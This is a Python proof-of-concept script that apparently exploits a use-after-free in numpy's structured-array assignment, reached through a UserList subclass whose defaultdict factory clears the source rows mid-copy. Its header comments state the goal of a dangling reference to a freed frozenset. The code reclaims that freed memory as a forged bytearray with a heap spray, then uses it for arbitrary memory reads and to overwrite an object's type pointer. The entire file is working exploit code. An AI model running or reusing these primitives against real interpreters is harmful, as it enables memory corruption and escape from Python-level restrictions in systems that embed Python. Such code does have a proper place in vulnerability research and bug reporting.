# source: CPython 3.11 collections.UserList (__len__ = len(self.data), __getitem__ = self.data[i]) + defaultdict.__missing__ calling default_factory; numpy 1.24 VOID_setitem (fields from PyTuple_GET_ITEM of a borrowed row) -> subarray field -> PyArray_CopyObject -> PySequence_Fast
# family: structured-row fill from a tuple; a UserList subclass whose data is a read-only @property returning an attribute that holds a defaultdict with a plain script factory (no field/class attribute named data, no x.data = ...)
# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections
import numpy as np

rows = []


def fill():
    if not rows:
        raise IndexError
    rows.clear()
    return 1.0


class Basket(collections.UserList):
    def __init__(self, store):
        self.store = store

    @property
    def data(self):
        return self.store


class Box:
    pass


class Other:
    pass


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


def reclaim(res):
    fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
    spray = []
    for k in range(8):
        b = bytearray(215)
        b[16:16 + len(fake)] = fake
        spray.append(b)
    print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
    bx = Box()
    ot = Other()
    wb, wo = where(bx), where(ot)
    print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
    res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
    print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
    return spray


rows.append((Basket(collections.defaultdict(fill, {"k": 0})), 0, 0, 0, 0, 0, 0, frozenset([2])))
fields = [("w", "O", (1,))] + [("pad%d" % k, "O") for k in range(6)] + [("tag", "O")]
table = np.array(rows, dtype=fields)
res = table[0]["tag"]
keep = reclaim(res)
